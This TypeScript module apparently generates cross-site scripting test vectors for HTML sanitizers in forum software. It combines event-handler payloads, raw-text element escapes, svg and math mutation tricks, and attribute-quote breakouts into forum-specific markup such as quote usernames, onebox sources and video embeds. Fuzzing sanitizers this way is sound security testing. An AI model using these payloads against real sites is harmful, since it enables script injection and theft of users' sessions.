import { asHex, every, type Vector } from './vector.ts'

/** What runs once it is markup again. */
const payloads: Vector[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<script>${call}</script>`,
]

/** Elements whose content parsers read in different ways. */
const shells = [
  'style',
  'title',
  'textarea',
  'noscript',
  'noembed',
  'noframes',
  'xmp',
  'iframe',
  'template',
  'script',
  'option',
  'plaintext',
  'code',
  'pre',
]

const shellEscapes: ((shell: string, payload: string) => string)[] = [
  (shell, payload) => `<${shell}><p title="</${shell}>${payload}"></${shell}>`,
  (shell, payload) => `<${shell}></${shell}/>${payload}`,
  (shell, payload) => `<${shell}><!--</${shell}>${payload}--></${shell}>`,
  (shell, payload) => `<${shell}>${payload}`,
  (shell, payload) => `<svg><${shell}>${payload}</${shell}></svg>`,
  (shell, payload) => `<math><mtext><${shell}>${payload}</${shell}></mtext></math>`,
  (shell, payload) => `<svg></p><${shell}><a title="</${shell}>${payload}">`,
  (shell, payload) => `<a title="<${shell}>"></a></${shell}>${payload}`,
]

/** Attributes that a post may have, or that forum markup carries a name or an address in. */
const carriers: ((value: string) => string)[] = [
  (value) => `<img src=x alt=${value}>`,
  (value) => `<img src=x title=${value}>`,
  (value) => `<img src=${value}>`,
  (value) => `<img src=x width=${value} height=${value}>`,
  (value) => `<a href=https://example.org/${value}>x</a>`,
  (value) => `<a href=https://example.org/ title=${value}>x</a>`,
  (value) => `<a class=${value} href=/>x</a>`,
  (value) => `<a data-embed=youtube data-embed-id=${value} href=/>x</a>`,
  (value) => `<div class=lazyYT data-youtube-id=abc data-youtube-title=${value}></div>`,
  (value) => `<iframe src=https://www.youtube.com/embed/abc title=${value}></iframe>`,
  (value) => `<blockquote class=ipsQuote data-ipsquote-username=${value}>x</blockquote>`,
  (value) => `<aside class=quote data-username=${value}><blockquote>x</blockquote></aside>`,
  (value) => `<aside class=onebox data-onebox-src=https://example.org/${value}></aside>`,
  (value) => `<td data-align=${value} colspan=${value}>x</td>`,
  (value) => `<abbr title=${value}>x</abbr>`,
  (value) => `<ol start=${value}><li value=${value}>x</li></ol>`,
]

const quotations: Vector[] = [
  (call) => `"&quot;><img src=x onerror=${call}>"`,
  (call) => `'"><img src=x onerror=${call}>'`,
  (call) => `x"><svg/onload=${call}>`,
  (call) => `'" autofocus tabindex=1 onfocus=${call} x="'`,
  (call) => `"&#34; onmouseover=${call} x=&#34;"`,
  (call) => `\`\`onerror=${call}`,
  (call) => `"${asHex('"><img src=x onerror=')}${call}&gt;"`,
]

const shelled = shells.flatMap((shell) =>
  every(shellEscapes, payloads, (escape, payload) => (call) => escape(shell, payload(call))),
)

export const breakouts: Vector[] = [
  ...shelled,
  ...every(carriers, quotations, (carrier, quotation) => (call) => carrier(quotation(call))),
]
